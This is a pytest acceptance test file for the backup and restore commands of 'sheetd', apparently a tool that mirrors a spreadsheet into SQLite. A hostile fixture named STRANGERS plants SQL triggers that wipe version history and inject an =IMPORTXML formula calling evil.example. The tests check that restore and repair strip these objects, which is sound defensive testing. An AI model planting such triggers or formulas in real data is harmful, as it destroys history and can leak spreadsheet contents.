"""A backup in the place of the mirror: everything is as it was, and the sheet loses nothing."""

from __future__ import annotations

import sqlite3
from contextlib import closing
from pathlib import Path

import pytest

from tests.acceptance.conftest import Sheetd
from tests.support.loop import Loop


def test_history_comes_back_and_what_was_typed_since_is_read_again(
    hunt: Loop, sheetd: Sheetd
) -> None:
    sheetd("sync", "now")
    row_id = hunt.rows()[0]["sheetd id"]
    assert sheetd("db", "backup", "copy.db").status == 0
    hunt.user.type(1, 2, "edited since")
    hunt.user.type_rows(4, 0, [["New", "Role", "typed since"]])
    hunt.user.delete_rows(2, 3)
    sheetd("sync", "now")
    typed = [(row["Company"], row["Description"]) for row in hunt.rows()]
    ids = [row["sheetd id"] for row in hunt.rows()]
    ran = sheetd("db", "restore", "copy.db")
    assert ran.status == 0, ran.err
    assert "sheetd.db.before-restore-" in ran.out
    assert "edited since" not in sheetd("history", row_id, "--json").out
    for _ in range(2):
        assert sheetd("sync", "now").status == 0
    assert [(row["Company"], row["Description"]) for row in hunt.rows()] == typed
    assert [row["sheetd id"] for row in hunt.rows()][:2] == ids[:2]
    hunt.assert_right()
    assert "edited since" in sheetd("history", row_id, "--json").out
    assert [row["cells"]["Company"] for row in sheetd("rows", "--deleted", "--json").json()] == [
        "Bolt"
    ]


def test_a_process_that_has_the_mirror_open_sees_the_backup(hunt: Loop, sheetd: Sheetd) -> None:
    hunt.cycle()
    sheetd("db", "backup", "copy.db")
    hunt.user.type(1, 2, "edited since")
    hunt.cycle()
    assert sheetd("db", "restore", "copy.db").status == 0
    [row] = [row for row in hunt.application.reader.rows() if row.cells["Company"] == "Acme"]
    assert row.cells["Description"] == "Python and SQL"
    hunt.settle()
    hunt.assert_right()


def test_what_was_before_is_kept_for_its_owner_alone(hunt: Loop, sheetd: Sheetd) -> None:
    sheetd("sync", "now")
    sheetd("db", "backup", "copy.db")
    sheetd("db", "restore", "copy.db")
    [aside] = hunt.folder.glob("sheetd.db.before-restore-*")
    assert aside.stat().st_mode & 0o777 == 0o600
    with closing(sqlite3.connect(aside)) as database:
        assert database.execute("SELECT count(*) FROM rows").fetchone() == (3,)


@pytest.mark.parametrize(
    ("content", "status", "said"),
    [
        (None, 2, "is not there"),
        (b"no database" * 999, 6, "cannot be read"),
        (b"", 2, "no mirror of sheetd"),
    ],
)
def test_what_is_no_backup_is_refused_and_the_mirror_stays(
    hunt: Loop, sheetd: Sheetd, tmp_path: Path, content: bytes | None, status: int, said: str
) -> None:
    sheetd("sync", "now")
    if content is not None:
        (tmp_path / "copy.db").write_bytes(content)
    ran = sheetd("db", "restore", "copy.db")
    assert ran.status == status
    assert said in ran.err
    assert len(sheetd("rows", "--json").json()) == 3


def test_a_backup_of_a_newer_sheetd_is_refused(hunt: Loop, sheetd: Sheetd, tmp_path: Path) -> None:
    sheetd("sync", "now")
    sheetd("db", "backup", "copy.db")
    with closing(sqlite3.connect(tmp_path / "copy.db")) as database:
        database.execute("UPDATE alembic_version SET version_num = '9999'")
        database.commit()
    ran = sheetd("db", "restore", "copy.db")
    assert ran.status == 6
    assert "newer sheetd" in ran.err
    assert sheetd("sync", "now").status == 0, "the mirror is as it was"


STRANGERS = """
CREATE TRIGGER loot AFTER UPDATE ON rows BEGIN DELETE FROM row_versions; END;
CREATE TRIGGER spoil AFTER INSERT ON runs BEGIN
  UPDATE rows SET owned = replace(owned, 'PYTHON', '=IMPORTXML("http://evil.example")');
END;
CREATE TABLE loot (x);
CREATE VIEW peek AS SELECT * FROM rows;
CREATE TRIGGER instead INSTEAD OF UPDATE ON peek BEGIN SELECT 1; END;
CREATE VIRTUAL TABLE words USING fts5(x);
CREATE UNIQUE INDEX one_run ON runs (status);
"""


def names_in(path: Path) -> set[str]:
    with closing(sqlite3.connect(path)) as database:
        return {row[0] for row in database.execute("SELECT name FROM sqlite_schema")}


def test_a_backup_gives_rows_and_no_code(hunt: Loop, sheetd: Sheetd, tmp_path: Path) -> None:
    sheetd("sync", "now")
    sheetd("db", "backup", "copy.db")
    before, history = hunt.rows(), sheetd("db", "export", "--format", "json").out
    clean = names_in(tmp_path / "sheetd.db")
    with closing(sqlite3.connect(tmp_path / "copy.db")) as database:
        database.execute("DELETE FROM runs WHERE id > 1")
        database.executescript(STRANGERS)
    ran = sheetd("db", "restore", "copy.db")
    assert (ran.status, "Left out" in ran.out) == (0, False), ran.err
    assert sheetd("sync", "now").status == 0
    assert names_in(tmp_path / "sheetd.db") == clean
    assert hunt.rows() == before
    assert sheetd("db", "export", "--format", "json").out == history
    assert sheetd("db", "check").status == 0
    assert not list(tmp_path.glob("*.restoring*"))


@pytest.mark.parametrize(
    ("change", "status", "said"),
    [
        (
            "ALTER TABLE runs RENAME TO r; CREATE VIEW runs AS SELECT * FROM r;",
            2,
            "lacks the table runs",
        ),
        ("DROP TABLE hand_edits;", 2, "lacks the column hand_edits."),
        ("ALTER TABLE rows DROP COLUMN owned;", 2, "lacks the column rows.owned"),
        ("INSERT INTO alembic_version VALUES ('0001');", 2, "no mirror of sheetd"),
        ("DROP TABLE rows; CREATE VIEW rows AS SELECT 1;", 2, "no mirror of sheetd"),
    ],
)
def test_a_backup_whose_tables_are_others_is_refused(
    hunt: Loop, sheetd: Sheetd, tmp_path: Path, change: str, status: int, said: str
) -> None:
    sheetd("sync", "now")
    sheetd("db", "backup", "copy.db")
    with closing(sqlite3.connect(tmp_path / "copy.db")) as database:
        database.executescript(
            f"PRAGMA foreign_keys = OFF; PRAGMA legacy_alter_table = ON; {change}"
        )
    ran = sheetd("db", "restore", "copy.db")
    assert (ran.status, said in ran.err) == (status, True), ran.err
    assert len(sheetd("rows", "--json").json()) == 3, "the mirror is as it was"


def test_what_makes_no_sense_in_a_backup_is_left_out_and_told(
    hunt: Loop, sheetd: Sheetd, tmp_path: Path
) -> None:
    sheetd("sync", "now")
    sheetd("db", "backup", "copy.db")
    with closing(sqlite3.connect(tmp_path / "copy.db")) as database:
        database.execute("UPDATE results SET tool_version = 'many' WHERE id = 1")
        database.execute("UPDATE row_versions SET cells = x'00ff' WHERE rowid = 1")
        database.commit()
    ran = sheetd("db", "restore", "copy.db")
    assert ran.status == 0
    assert "Left out: 1 entries of results" in ran.out
    assert "Left out: 1 entries of row_versions" in ran.out
    assert sheetd("sync", "now").status == 0
    hunt.assert_right()
    assert sheetd("db", "check").status == 0


def test_moments_that_are_none_are_put_right(hunt: Loop, sheetd: Sheetd, tmp_path: Path) -> None:
    sheetd("sync", "now")
    sheetd("db", "backup", "copy.db")
    with closing(sqlite3.connect(tmp_path / "copy.db")) as database:
        database.execute("UPDATE sheets SET pulled_at = 'x', looked_at = '2026-05-01T00:00:00'")
        database.execute("UPDATE rows SET first_seen = 'x', last_changed = '', standing = 'x'")
        database.execute("UPDATE jobs SET updated_at = 'x', due_at = 'x'")
        database.execute("UPDATE results SET at = 'x'")
        database.commit()
    ran = sheetd("db", "restore", "copy.db")
    assert (ran.status, "Left out: 1 values of sheets.pulled_at" in ran.out) == (0, True)
    assert sheetd("sync", "now").status == 0
    hunt.assert_right()
    assert len(sheetd("rows", "--json").json()) == 3
    for command in (["status"], ["db", "check"], ["db", "export"]):
        assert sheetd(*command).status == 0


def test_check_names_triggers_and_repair_removes_them(
    hunt: Loop, sheetd: Sheetd, tmp_path: Path
) -> None:
    sheetd("sync", "now")
    versions = "SELECT count(*) FROM row_versions"
    with closing(sqlite3.connect(tmp_path / "sheetd.db")) as database:
        database.executescript(STRANGERS)
        before = database.execute(versions).fetchone()
    ran = sheetd("db", "check")
    assert ran.status == 6
    for name in ("loot", "spoil", "instead"):
        assert f"The trigger {name} is not sheetd's" in ran.out
    ran = sheetd("db", "check", "--repair")
    assert (ran.status, "The trigger loot was removed" in ran.out) == (0, True)
    with closing(sqlite3.connect(tmp_path / "sheetd.db")) as database:
        assert database.execute(versions).fetchone() == before
